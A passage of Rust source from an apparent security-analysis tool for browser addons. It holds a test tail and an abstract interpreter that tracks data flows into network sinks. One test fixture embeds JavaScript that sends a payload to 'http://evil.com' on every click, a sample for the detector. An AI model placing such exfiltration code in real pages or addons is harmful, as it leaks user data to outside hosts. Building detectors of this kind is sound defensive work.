        assert_eq!(stats.summary_hits, 0);
        assert_eq!(stats.abandoned, 0);
    }

    #[test]
    fn figure1_preamble_round_trips_through_the_store() {
        // A harder shape: closures assigned to variables, conditionals,
        // and a registered event handler.
        let src = r#"
var send = function (payload) {
  var x = new XMLHttpRequest();
  x.open("GET", "http://evil.com/c?d=" + payload);
  x.send(null);
};
var getString = function () { return "s"; };
var onClick = function () { send(getString()); };
window.addEventListener("click", onClick, false);
"#;
        let l = lowered(src);
        let config = AnalysisConfig::default();
        let cold = analyze(&l, &config);
        let store = MemorySummaryStore::new(64);
        let (first, s1) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
        assert_same_results(&cold, &first, "closures first");
        assert_eq!(s1.abandoned, 0);
        let (second, s2) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
        assert_same_results(&cold, &second, "closures warm");
        assert_eq!(s2.abandoned, 0, "{s2:?}");
    }
}
