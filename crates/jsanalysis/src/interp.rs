//! The flow- and context-sensitive abstract interpreter (the paper's
//! "base analysis", standing in for JSAI).
//!
//! A worklist fixpoint over `(statement, context)` pairs computes, for the
//! whole addon:
//!
//! - abstract values (reduced product of pointer, prefix-string, and
//!   constant analyses),
//! - the call graph (control-flow analysis),
//! - per-statement **read/write sets** with strong/weak qualification
//!   (the inputs to annotated-PDG construction, Section 3),
//! - which statements **may implicitly throw**,
//! - network **sink records** with inferred prefix-domain URLs
//!   (Section 5), and interesting-API usage.
//!
//! Activation frames are heap objects, making closures sound by
//! construction; the addon event loop is the non-deterministic dispatch
//! statement appended by `jsir` (Section 6.1).

use crate::config::{
    AnalysisConfig, BudgetExhausted, BudgetKind, SinkKind, SourceKind, StringDomain, WorklistOrder,
    DEADLINE_CHECK_INTERVAL,
};
use crate::context::{CtxId, CtxTable};
use crate::natives::{self, Environment, NativeBehavior, StrOp};
use crate::rwsets::{Loc, RwSets, Strength};
use crate::store::{slots, SiteKey, SiteTable, State};
use jsdomains::{
    AValue, AllocSite, BoolDom, FuncIndex, Lattice, NativeId, NumDom, ObjKind, Pre, Sym,
};
use jsir::{
    EdgeKind, IrFuncId, IrStmtKind, Lowered, Operand, Place, StmtId,
};
use jsparser::ast::{BinaryOp, UnaryOp};
use sigtrace::{Counter, Counters, Trace};
use std::cmp::Reverse;
use std::collections::{BTreeMap, BTreeSet, BinaryHeap, HashMap, HashSet, VecDeque};

/// A context-qualified program point in the transition graph. Both halves
/// are dense interned ids, so nodes are `Copy` and hash in O(1).
type CtxNode = (StmtId, CtxId);

/// A recorded reach of an interesting sink.
#[derive(Debug, Clone, PartialEq)]
pub struct SinkRecord {
    /// The call statement acting as the sink.
    pub stmt: StmtId,
    /// What kind of sink.
    pub kind: SinkKind,
    /// For network sends: the inferred domain (prefix domain), joined over
    /// all contexts/visits. `Pre::Bot` if never set.
    pub domain: Pre,
}

/// Everything the base analysis hands to PDG construction and signature
/// inference.
#[derive(Debug)]
pub struct AnalysisResult {
    /// Read/write sets per statement (merged over contexts).
    pub rw: BTreeMap<StmtId, RwSets>,
    /// Statements that may throw an implicit exception.
    pub may_throw: BTreeSet<StmtId>,
    /// Addon functions each call statement may invoke.
    pub call_targets: BTreeMap<StmtId, BTreeSet<IrFuncId>>,
    /// Natives each call statement may invoke.
    pub native_targets: BTreeMap<StmtId, BTreeSet<NativeId>>,
    /// Interesting sinks reached, with inferred network domains.
    pub sinks: Vec<SinkRecord>,
    /// Uses of interesting APIs: (statement, API name).
    pub api_uses: BTreeSet<(StmtId, String)>,
    /// Interesting source locations (site, property) -> kind.
    pub source_locs: BTreeMap<(AllocSite, Sym), SourceKind>,
    /// The source kinds the configuration marked interesting.
    pub interesting_sources: BTreeSet<SourceKind>,
    /// Recency aliasing: most-recent allocation site -> its aged summary
    /// twin. The DDG treats aliased sites as overlapping (cross-instance
    /// flows are weak).
    pub site_aliases: BTreeMap<AllocSite, AllocSite>,
    /// Statements lying on an execution cycle (loop, recursion, or the
    /// event loop), computed over the *context-qualified* transition graph
    /// so that a function merely called from two sites is not spuriously
    /// cyclic. These are the amplified control-edge sources (Section 3.3
    /// stage 4).
    pub cyclic_stmts: BTreeSet<StmtId>,
    /// Statements reached by the analysis.
    pub reachable: BTreeSet<StmtId>,
    /// The allocation-site interner (for diagnostics).
    pub sites: SiteTable,
    /// Worklist steps executed (perf metric). Deterministic for a fixed
    /// config, but depends on the worklist order (RPO exists to shrink it).
    pub steps: usize,
    /// Abstract-state joins performed when re-queuing an already-visited
    /// node (perf metric; order-dependent like [`AnalysisResult::steps`]).
    pub joins: usize,
    /// Abstract heap objects copied by copy-on-write during this run
    /// (perf metric; order-dependent like [`AnalysisResult::steps`]).
    pub heap_cow_clones: u64,
    /// True if `max_steps` was hit and results are partial.
    pub hit_step_limit: bool,
    /// Set when the caller-imposed step budget or wall-clock deadline
    /// tripped before the fixpoint was reached; results are partial. The
    /// service layer reports this as a degraded `timeout` verdict.
    pub budget_exhausted: Option<BudgetExhausted>,
    /// Native name table, indexed by `NativeId`.
    pub native_names: Vec<&'static str>,
}

impl AnalysisResult {
    /// Statements that read an interesting source location, with the
    /// source kinds they read. Pre-indexes `source_locs` by site so each
    /// read only probes the handful of interesting properties on its own
    /// site instead of scanning the whole table.
    pub fn source_stmts(&self) -> BTreeMap<StmtId, BTreeSet<SourceKind>> {
        let mut by_site: HashMap<AllocSite, Vec<(Sym, &SourceKind)>> = HashMap::new();
        for ((site, prop), kind) in &self.source_locs {
            by_site.entry(*site).or_default().push((*prop, kind));
        }
        let mut out: BTreeMap<StmtId, BTreeSet<SourceKind>> = BTreeMap::new();
        for (stmt, rw) in &self.rw {
            for (loc, _) in rw.reads.iter() {
                let Some(props) = by_site.get(&loc.site) else {
                    continue;
                };
                for (prop, kind) in props {
                    if loc.prop.may_be(prop) {
                        out.entry(*stmt).or_default().insert((*kind).clone());
                    }
                }
            }
        }
        out
    }

    /// The name of a native.
    pub fn native_name(&self, id: NativeId) -> &'static str {
        self.native_names[id.0 as usize]
    }
}

/// Runs the base analysis on a lowered program.
pub fn analyze(lowered: &Lowered, config: &AnalysisConfig) -> AnalysisResult {
    analyze_traced(lowered, config, &mut Trace::Off)
}

/// Runs the base analysis with an observability hook: `trace` receives
/// sub-spans (`seed` / `fixpoint` / `cycles`) and the phase counters
/// (worklist steps, state joins, heap CoW clones).
///
/// The counters are accumulated in plain machine fields and flushed once
/// at the end, so tracing adds nothing to the fixpoint loop itself; with
/// [`Trace::Off`] the whole function is [`analyze`].
pub fn analyze_traced(
    lowered: &Lowered,
    config: &AnalysisConfig,
    trace: &mut Trace<'_>,
) -> AnalysisResult {
    let cow_before = jsdomains::cow_clone_count();
    let mut sites = SiteTable::new();
    let env = natives::setup(&mut sites);
    let worklist = match config.worklist {
        WorklistOrder::Rpo => Worklist::Rpo(BinaryHeap::new()),
        WorklistOrder::Fifo => Worklist::Fifo(VecDeque::new()),
    };
    let mut m = Machine {
        lowered,
        config,
        env,
        sites,
        ctxs: CtxTable::new(),
        prio: rpo_priorities(lowered),
        var_keys: Vec::new(),
        states: HashMap::new(),
        worklist,
        queued: HashSet::new(),
        rw: BTreeMap::new(),
        may_throw: BTreeSet::new(),
        call_targets: BTreeMap::new(),
        native_targets: BTreeMap::new(),
        sink_domains: BTreeMap::new(),
        api_uses: BTreeSet::new(),
        ret_links: HashMap::new(),
        reachable: BTreeSet::new(),
        steps: 0,
        joins: 0,
        site_aliases: BTreeMap::new(),
        current: None,
        transitions: BTreeSet::new(),
    };
    trace.span_start("seed");
    m.seed();
    trace.span_end("seed");
    trace.span_start("fixpoint");
    let status = m.run();
    trace.span_end("fixpoint");
    let native_names = m.env.natives.iter().map(|n| n.name).collect();
    trace.span_start("cycles");
    let cyclic_stmts = cyclic_statements(&m.transitions);
    trace.span_end("cycles");
    let heap_cow_clones = jsdomains::cow_clone_count() - cow_before;
    if trace.is_enabled() {
        let mut counters = Counters::new();
        counters.add(Counter::WorklistSteps, m.steps as u64);
        counters.add(Counter::StateJoins, m.joins as u64);
        counters.add(Counter::HeapCowClones, heap_cow_clones);
        trace.add_counters(&counters);
    }
    AnalysisResult {
        rw: m.rw,
        may_throw: m.may_throw,
        call_targets: m.call_targets,
        native_targets: m.native_targets,
        sinks: m
            .sink_domains
            .into_iter()
            .map(|((stmt, kind), domain)| SinkRecord { stmt, kind, domain })
            .collect(),
        api_uses: m.api_uses,
        source_locs: m.env.source_locs.clone(),
        interesting_sources: config.security.sources.clone(),
        site_aliases: m.site_aliases,
        cyclic_stmts,
        reachable: m.reachable,
        sites: m.sites,
        steps: m.steps,
        joins: m.joins,
        heap_cow_clones,
        hit_step_limit: matches!(status, RunStatus::StepLimit),
        budget_exhausted: match status {
            RunStatus::Budget(b) => Some(b),
            _ => None,
        },
        native_names,
    }
}

/// How the fixpoint loop ended.
enum RunStatus {
    /// The worklist drained: the fixpoint was reached.
    Completed,
    /// The `max_steps` safety valve tripped.
    StepLimit,
    /// The caller-imposed step budget or wall-clock deadline tripped.
    Budget(BudgetExhausted),
}

/// Where a finished callee returns to.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
struct RetLink {
    call: StmtId,
    caller_ctx: CtxId,
    caller_func: IrFuncId,
    callee_frame: AllocSite,
    dst: Option<Place>,
    new_site: Option<AllocSite>,
    /// The `CallResult` node the return-value transfer is attributed to.
    result_node: Option<StmtId>,
}

/// The pending-node queue. FIFO is the naive baseline; RPO pops the
/// pending node with the smallest reverse-postorder number, so loop
/// bodies stabilize before their exits are visited and far fewer
/// re-propagations are needed to reach the fixpoint.
enum Worklist {
    Fifo(VecDeque<CtxNode>),
    Rpo(BinaryHeap<Reverse<(u32, StmtId, CtxId)>>),
}

impl Worklist {
    fn push(&mut self, key: CtxNode, prio: &[u32]) {
        match self {
            Worklist::Fifo(q) => q.push_back(key),
            Worklist::Rpo(h) => {
                let p = prio.get(key.0 .0 as usize).copied().unwrap_or(u32::MAX);
                h.push(Reverse((p, key.0, key.1)));
            }
        }
    }

    fn pop(&mut self) -> Option<CtxNode> {
        match self {
            Worklist::Fifo(q) => q.pop_front(),
            Worklist::Rpo(h) => h.pop().map(|Reverse((_, s, c))| (s, c)),
        }
    }
}

/// Reverse-postorder numbering of every statement, per function (each
/// function's body is a contiguous priority band). Nested functions get
/// the earlier bands and top-level the last one: pending callee and
/// event-handler work then always outranks the top-level driver, so a
/// call (or an event-loop dispatch) drains to its fixpoint before the
/// caller's continuation -- or the dispatch statement itself -- re-runs
/// on a partially-propagated state. The numbering is a scheduling
/// heuristic only -- any order reaches the same fixpoint -- so it's fine
/// that inter-function edges and catch pads reachable only through
/// implicit throws sit outside the DFS; the latter get trailing
/// priorities in statement order.
fn rpo_priorities(lowered: &Lowered) -> Vec<u32> {
    let n = lowered.program.stmt_count();
    let mut prio = vec![u32::MAX; n];
    let mut visited = vec![false; n];
    let mut next: u32 = 0;
    let (top, nested) = lowered
        .program
        .funcs
        .split_first()
        .expect("top-level function always exists");
    for func in nested.iter().chain(std::iter::once(top)) {
        let entry = func.entry;
        if visited[entry.0 as usize] {
            continue;
        }
        // Iterative DFS collecting postorder, then number it in reverse.
        let mut post: Vec<StmtId> = Vec::new();
        let mut stack: Vec<(StmtId, usize)> = vec![(entry, 0)];
        visited[entry.0 as usize] = true;
        while let Some((s, cursor)) = stack.last_mut() {
            let succs = lowered.cfg.succs(*s);
            if *cursor < succs.len() {
                let (t, _) = succs[*cursor];
                *cursor += 1;
                if !visited[t.0 as usize] {
                    visited[t.0 as usize] = true;
                    stack.push((t, 0));
                }
            } else {
                post.push(*s);
                stack.pop();
            }
        }
        for s in post.iter().rev() {
            prio[s.0 as usize] = next;
            next += 1;
        }
    }
    for (p, seen) in prio.iter_mut().zip(&visited) {
        if !seen {
            *p = next;
            next += 1;
        }
    }
    prio
}

struct Machine<'a> {
    lowered: &'a Lowered,
    config: &'a AnalysisConfig,
    env: Environment,
    sites: SiteTable,
    /// Context interner: every context-qualified key below holds a
    /// [`CtxId`] instead of a call-string vector.
    ctxs: CtxTable,
    /// Reverse-postorder priority per statement (see [`rpo_priorities`]).
    prio: Vec<u32>,
    /// Cache of `v{i}` frame-variable keys, indexed by slot number.
    var_keys: Vec<Pre>,
    states: HashMap<CtxNode, State>,
    worklist: Worklist,
    queued: HashSet<CtxNode>,
    rw: BTreeMap<StmtId, RwSets>,
    may_throw: BTreeSet<StmtId>,
    call_targets: BTreeMap<StmtId, BTreeSet<IrFuncId>>,
    native_targets: BTreeMap<StmtId, BTreeSet<NativeId>>,
    sink_domains: BTreeMap<(StmtId, SinkKind), Pre>,
    api_uses: BTreeSet<(StmtId, String)>,
    ret_links: HashMap<(IrFuncId, CtxId), BTreeSet<RetLink>>,
    reachable: BTreeSet<StmtId>,
    steps: usize,
    /// Joins into an existing abstract state (see `push_state`).
    joins: usize,
    site_aliases: BTreeMap<AllocSite, AllocSite>,
    /// The node currently being transferred (source of push_state edges).
    current: Option<CtxNode>,
    /// Context-qualified transition edges actually explored; used for
    /// cycle (amplification) detection without the spurious cycles a
    /// context-insensitive supergraph has.
    transitions: BTreeSet<(CtxNode, CtxNode)>,
}

impl<'a> Machine<'a> {
    fn seed(&mut self) {
        let top = self.lowered.program.top_level();
        let mut st = self.env.initial_state.clone();
        let frame = self
            .sites
            .intern(SiteKey::Frame(top.id, CtxId::ROOT));
        st.alloc(frame, ObjKind::Host("frame"));
        st.write_slot(frame, slots::THIS, AValue::obj(self.env.global));
        st.write_slot(frame, slots::RET, AValue::undef());
        self.push_state(top.entry, CtxId::ROOT, st);
    }

    fn run(&mut self) -> RunStatus {
        // The clock only starts when a budget can trip on it, keeping the
        // unbudgeted hot path free of timing syscalls.
        let needs_clock = self.config.deadline.is_some() || self.config.step_budget.is_some();
        let start = needs_clock.then(std::time::Instant::now);
        while let Some((stmt, ctx)) = self.worklist.pop() {
            self.queued.remove(&(stmt, ctx));
            self.steps += 1;
            if self.steps > self.config.max_steps {
                return RunStatus::StepLimit;
            }
            if let Some(budget) = self.config.step_budget {
                if self.steps > budget {
                    return RunStatus::Budget(BudgetExhausted {
                        kind: BudgetKind::Steps,
                        steps: self.steps,
                        elapsed: start.expect("clock started with a budget").elapsed(),
                    });
                }
            }
            if let Some(deadline) = self.config.deadline {
                if self.steps % DEADLINE_CHECK_INTERVAL == 0 {
                    let elapsed = start.expect("clock started with a deadline").elapsed();
                    if elapsed > deadline {
                        return RunStatus::Budget(BudgetExhausted {
                            kind: BudgetKind::Deadline,
                            steps: self.steps,
                            elapsed,
                        });
                    }
                }
            }
            self.current = Some((stmt, ctx));
            self.step(stmt, ctx);
            self.current = None;
        }
        RunStatus::Completed
    }

    fn push_state(&mut self, stmt: StmtId, ctx: CtxId, state: State) {
        let key = (stmt, ctx);
        if let Some(cur) = self.current {
            self.transitions.insert((cur, key));
        }
        let changed = match self.states.get_mut(&key) {
            Some(existing) => {
                self.joins += 1;
                existing.join_in_place(&state)
            }
            None => {
                self.states.insert(key, state);
                true
            }
        };
        if changed && self.queued.insert(key) {
            self.worklist.push(key, &self.prio);
        }
    }

    fn enqueue(&mut self, stmt: StmtId, ctx: CtxId) {
        let key = (stmt, ctx);
        if self.states.contains_key(&key) && self.queued.insert(key) {
            self.worklist.push(key, &self.prio);
        }
    }

    fn frame_site(&mut self, func: IrFuncId, ctx: CtxId) -> AllocSite {
        self.sites.intern(SiteKey::Frame(func, ctx))
    }

    /// Key under which variable slot `i` is stored in its frame object.
    /// Cached: the same few dozen keys are rebuilt millions of times on
    /// the hot path otherwise.
    fn var_key(&mut self, index: u32) -> Pre {
        let i = index as usize;
        while self.var_keys.len() <= i {
            let j = self.var_keys.len();
            self.var_keys.push(Pre::exact(format!("v{j}")));
        }
        self.var_keys[i]
    }

    /// Recency allocation: if the site already holds an object (the
    /// allocation re-executed -- a loop, recursion, or another event-loop
    /// iteration), age that instance into the site's summary twin and
    /// rewrite every reference to it, then bind a fresh singleton. This is
    /// what keeps locals and fresh objects strongly updatable inside
    /// event handlers, like JSAI's stack frames.
    fn alloc_fresh(&mut self, st: &mut State, key: SiteKey, kind: ObjKind) -> AllocSite {
        let mru = self.sites.intern(key);
        if st.heap.get(mru).is_some() {
            let aged = self.sites.intern(SiteKey::Aged(mru.0));
            st.heap.rename_site(mru, aged);
            self.site_aliases.insert(mru, aged);
        }
        st.alloc(mru, kind);
        mru
    }

    /// Marks a statement as possibly throwing an implicit exception and,
    /// when it has an enclosing handler, propagates the current state to
    /// the catch landing pad so code reachable only through implicit
    /// exceptions is still analyzed.
    fn implicit_throw(&mut self, stmt_id: StmtId, ctx: CtxId, st: &State) {
        self.may_throw.insert(stmt_id);
        if let Some(handler) = self.lowered.program.stmt(stmt_id).handler {
            self.push_state(handler, ctx, st.clone());
        }
    }

    fn record_read(&mut self, stmt: StmtId, loc: Loc, strength: Strength) {
        self.rw.entry(stmt).or_default().reads.add(loc, strength);
    }

    fn record_write(&mut self, stmt: StmtId, loc: Loc, strength: Strength) {
        self.rw.entry(stmt).or_default().writes.add(loc, strength);
    }

    /// Strength of accessing `prop` on exactly the sites `sites_hit`.
    fn access_strength(&self, st: &State, sites_hit: &[AllocSite], prop: &Pre) -> Strength {
        if sites_hit.len() == 1
            && prop.is_exact()
            && st
                .object(sites_hit[0])
                .is_some_and(|o| o.singleton)
        {
            Strength::Strong
        } else {
            Strength::Weak
        }
    }

    /// Evaluates an operand, recording reads.
    fn eval(
        &mut self,
        stmt: StmtId,
        func: IrFuncId,
        frame: AllocSite,
        st: &State,
        op: &Operand,
    ) -> AValue {
        match op {
            Operand::Num(n) => AValue::num(*n),
            Operand::Str(s) => AValue::str(Pre::exact(s)),
            Operand::Bool(b) => AValue::bool(*b),
            Operand::Null => AValue::null(),
            Operand::Undefined => AValue::undef(),
            Operand::This => {
                self.record_read(
                    stmt,
                    Loc::exact(frame, slots::THIS),
                    self.access_strength(st, &[frame], &Pre::exact(slots::THIS)),
                );
                st.read_slot([frame], slots::THIS)
            }
            Operand::Place(Place::Global(name)) => {
                let g = self.env.global;
                let key = Pre::exact(name);
                self.record_read(
                    stmt,
                    Loc { site: g, prop: key },
                    self.access_strength(st, &[g], &key),
                );
                match st.object(g) {
                    Some(o) => o.read_prop(&key),
                    None => AValue::undef(),
                }
            }
            Operand::Place(Place::Var(v)) => {
                let frames: Vec<AllocSite> = if v.func == func {
                    vec![frame]
                } else {
                    st.read_slot([frame], slots::CHAIN)
                        .objs
                        .iter()
                        .copied()
                        .filter(|s| self.sites.is_frame_of(*s, v.func))
                        .collect()
                };
                if frames.is_empty() {
                    return AValue::any();
                }
                let key = self.var_key(v.index);
                let mut out = AValue::bottom();
                let strength = self.access_strength(st, &frames, &key);
                for f in frames {
                    self.record_read(
                        stmt,
                        Loc {
                            site: f,
                            prop: key,
                        },
                        strength,
                    );
                    if let Some(o) = st.object(f) {
                        out = out.join(&o.read_prop(&key));
                    }
                }
                out
            }
        }
    }

    /// Writes a variable/global place, recording the write.
    fn write_place(
        &mut self,
        stmt: StmtId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: &Place,
        value: &AValue,
    ) {
        match dst {
            Place::Global(name) => {
                let g = self.env.global;
                let key = Pre::exact(name);
                self.record_write(stmt, Loc { site: g, prop: key }, Strength::Strong);
                if let Some(o) = st.heap.get_mut(g) {
                    o.write_prop(&key, value, true);
                }
            }
            Place::Var(v) => {
                let frames: Vec<AllocSite> = if v.func == func {
                    vec![frame]
                } else {
                    st.read_slot([frame], slots::CHAIN)
                        .objs
                        .iter()
                        .copied()
                        .filter(|s| self.sites.is_frame_of(*s, v.func))
                        .collect()
                };
                let key = self.var_key(v.index);
                let strength = self.access_strength(st, &frames, &key);
                let strong = strength == Strength::Strong;
                for f in frames {
                    self.record_write(
                        stmt,
                        Loc {
                            site: f,
                            prop: key,
                        },
                        strength,
                    );
                    if let Some(o) = st.heap.get_mut(f) {
                        o.write_prop(&key, value, strong);
                    }
                }
            }
        }
    }

    /// Like [`Machine::write_place`] but always a weak (joining) write,
    /// used when another definition of the same place from a sibling node
    /// must stay visible to the DDG.
    fn write_place_weak(
        &mut self,
        stmt: StmtId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: &Place,
        value: &AValue,
    ) {
        match dst {
            Place::Global(name) => {
                let g = self.env.global;
                let key = Pre::exact(name);
                self.record_write(stmt, Loc { site: g, prop: key }, Strength::Weak);
                if let Some(o) = st.heap.get_mut(g) {
                    o.write_prop(&key, value, false);
                }
            }
            Place::Var(v) => {
                let frames: Vec<AllocSite> = if v.func == func {
                    vec![frame]
                } else {
                    st.read_slot([frame], slots::CHAIN)
                        .objs
                        .iter()
                        .copied()
                        .filter(|s| self.sites.is_frame_of(*s, v.func))
                        .collect()
                };
                let key = self.var_key(v.index);
                for f in frames {
                    self.record_write(
                        stmt,
                        Loc {
                            site: f,
                            prop: key,
                        },
                        Strength::Weak,
                    );
                    if let Some(o) = st.heap.get_mut(f) {
                        o.write_prop(&key, value, false);
                    }
                }
            }
        }
    }

    /// Flows `state` to the successors of `stmt` whose edges satisfy
    /// `keep`. Takes the state by value: it is cloned for all successors
    /// but the last, which receives it by move (the common single-successor
    /// case costs zero clones).
    fn flow(
        &mut self,
        stmt: StmtId,
        ctx: CtxId,
        state: State,
        keep: impl Fn(EdgeKind) -> bool,
    ) {
        let lowered = self.lowered;
        let mut iter = lowered
            .cfg
            .succs(stmt)
            .iter()
            .filter(|(_, k)| keep(*k))
            .map(|(s, _)| *s)
            .peekable();
        while let Some(succ) = iter.next() {
            if iter.peek().is_some() {
                self.push_state(succ, ctx, state.clone());
            } else {
                self.push_state(succ, ctx, state);
                return;
            }
        }
    }

    #[allow(clippy::too_many_lines)]
    fn step(&mut self, stmt_id: StmtId, ctx: CtxId) {
        self.reachable.insert(stmt_id);
        let st_in = self.states[&(stmt_id, ctx)].clone();
        // Copy out the `&'a Lowered` so borrowing the statement does not
        // freeze `self` (the old code cloned the whole statement instead).
        let lowered = self.lowered;
        let stmt = lowered.program.stmt(stmt_id);
        let func = stmt.func;
        let frame = self.frame_site(func, ctx);
        let mut st = st_in;

        match &stmt.kind {
            IrStmtKind::Enter | IrStmtKind::Nop(_) | IrStmtKind::CallResult { .. } => {
                // CallResult's reads/writes are recorded by handle_exit on
                // the caller's behalf; here it just passes state through.
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Exit => {
                self.handle_exit(stmt_id, ctx, &st, func, frame);
            }
            IrStmtKind::Copy { dst, src } => {
                let v = self.eval(stmt_id, func, frame, &st, src);
                self.write_place(stmt_id, func, frame, &mut st, dst, &v);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::UnOp { dst, op, src } => {
                let v = self.eval(stmt_id, func, frame, &st, src);
                let out = abstract_unop(*op, &v);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Typeof { dst, src } => {
                let v = self.eval(stmt_id, func, frame, &st, src);
                let out = abstract_typeof(&v, &st);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::BinOp {
                dst,
                op,
                left,
                right,
            } => {
                let l = self.eval(stmt_id, func, frame, &st, left);
                let r = self.eval(stmt_id, func, frame, &st, right);
                let mut out = abstract_binop(*op, &l, &r);
                out.strs = self.degrade(out.strs);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::NewObject { dst } | IrStmtKind::NewArray { dst } => {
                let kind = if matches!(stmt.kind, IrStmtKind::NewArray { .. }) {
                    ObjKind::Array
                } else {
                    ObjKind::Plain
                };
                let site = self.alloc_fresh(&mut st, SiteKey::Stmt(stmt_id, ctx), kind);
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::obj(site));
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::NewRegex { dst, .. } => {
                let site =
                    self.alloc_fresh(&mut st, SiteKey::Stmt(stmt_id, ctx), ObjKind::Regex);
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::obj(site));
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Lambda { dst, func: lam } => {
                let site = self.alloc_fresh(
                    &mut st,
                    SiteKey::Stmt(stmt_id, ctx),
                    ObjKind::Function(FuncIndex(lam.0)),
                );
                let chain = st
                    .read_slot([frame], slots::CHAIN)
                    .join(&AValue::obj(frame));
                st.write_slot(site, slots::SCOPE, chain);
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::obj(site));
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::LoadProp { dst, obj, prop } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let pv = self
                    .eval(stmt_id, func, frame, &st, prop)
                    .to_abstract_string();
                if ov.may_throw_on_access() {
                    self.implicit_throw(stmt_id, ctx, &st);
                }
                let out = self.load_prop(stmt_id, &st, &ov, &pv);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::StoreProp { obj, prop, value } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let pv = self
                    .eval(stmt_id, func, frame, &st, prop)
                    .to_abstract_string();
                let vv = self.eval(stmt_id, func, frame, &st, value);
                if ov.may_throw_on_access() {
                    self.implicit_throw(stmt_id, ctx, &st);
                }
                let hit: Vec<AllocSite> = ov.objs.iter().copied().collect();
                let strength = self.access_strength(&st, &hit, &pv);
                for site in hit {
                    self.record_write(
                        stmt_id,
                        Loc {
                            site,
                            prop: pv,
                        },
                        strength,
                    );
                    if let Some(o) = st.heap.get_mut(site) {
                        o.write_prop(&pv, &vv, strength == Strength::Strong);
                    }
                }
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::DeleteProp { obj, prop } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let pv = self
                    .eval(stmt_id, func, frame, &st, prop)
                    .to_abstract_string();
                if ov.may_throw_on_access() {
                    self.implicit_throw(stmt_id, ctx, &st);
                }
                let hit: Vec<AllocSite> = ov.objs.iter().copied().collect();
                let strength = self.access_strength(&st, &hit, &pv);
                for site in hit {
                    self.record_write(
                        stmt_id,
                        Loc {
                            site,
                            prop: pv,
                        },
                        strength,
                    );
                    if let Some(o) = st.heap.get_mut(site) {
                        o.delete_prop(&pv);
                    }
                }
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Branch { cond } => {
                let v = self.eval(stmt_id, func, frame, &st, cond);
                let t = v.truthiness();
                let may_true = t.may_be_true() || t == BoolDom::Bot;
                let may_false = t.may_be_false() || t == BoolDom::Bot;
                self.flow(stmt_id, ctx, st, |k| match k {
                    EdgeKind::BranchTrue => may_true,
                    EdgeKind::BranchFalse => may_false,
                    EdgeKind::Uncaught => false,
                    _ => true,
                });
            }
            IrStmtKind::Havoc { dst } => {
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::any_bool());
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Return { value } => {
                let v = self.eval(stmt_id, func, frame, &st, value);
                // Flow-sensitive strong update: states from different
                // return statements are joined at the function exit anyway.
                let strength = self.access_strength(&st, &[frame], &Pre::exact(slots::RET));
                st.write_slot(frame, slots::RET, v);
                self.record_write(stmt_id, Loc::exact(frame, slots::RET), strength);
                self.flow(stmt_id, ctx, st, |k| k == EdgeKind::Return);
            }
            IrStmtKind::Throw { value } => {
                let v = self.eval(stmt_id, func, frame, &st, value);
                let strength = self.access_strength(&st, &[frame], &Pre::exact(slots::EXC));
                st.write_slot(frame, slots::EXC, v);
                self.record_write(stmt_id, Loc::exact(frame, slots::EXC), strength);
                self.flow(stmt_id, ctx, st, |k| k == EdgeKind::ThrowExplicit);
            }
            IrStmtKind::CatchBind { dst } => {
                let mut v = st.read_slot([frame], slots::EXC);
                let strength = self.access_strength(&st, &[frame], &Pre::exact(slots::EXC));
                self.record_read(stmt_id, Loc::exact(frame, slots::EXC), strength);
                if v.is_bottom() {
                    // Implicit exceptions carry no modeled value.
                    v = AValue::any();
                }
                self.write_place(stmt_id, func, frame, &mut st, dst, &v);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::ForInNext { dst, obj } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let mut keys = Pre::Bot;
                for site in &ov.objs {
                    // Enumerating keys observes the object's structure.
                    self.record_read(
                        stmt_id,
                        Loc {
                            site: *site,
                            prop: Pre::any(),
                        },
                        Strength::Weak,
                    );
                    if let Some(o) = st.object(*site) {
                        for k in o.props.keys() {
                            keys = keys.join(&Pre::Exact(*k));
                        }
                        if !o.unknown_props.is_bottom() {
                            keys = Pre::any();
                        }
                    }
                }
                let v = if keys.is_bottom() {
                    AValue::any_str()
                } else {
                    AValue::str(keys)
                };
                self.write_place(stmt_id, func, frame, &mut st, dst, &v);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Call {
                dst,
                callee,
                this,
                args,
                is_new,
            } => {
                self.handle_call(
                    stmt_id, ctx, func, frame, &mut st, dst, callee, this, args, *is_new,
                );
            }
            IrStmtKind::EventDispatch => {
                let handlers = st.read_slot([self.env.event_registry], slots::HANDLERS);
                self.record_read(
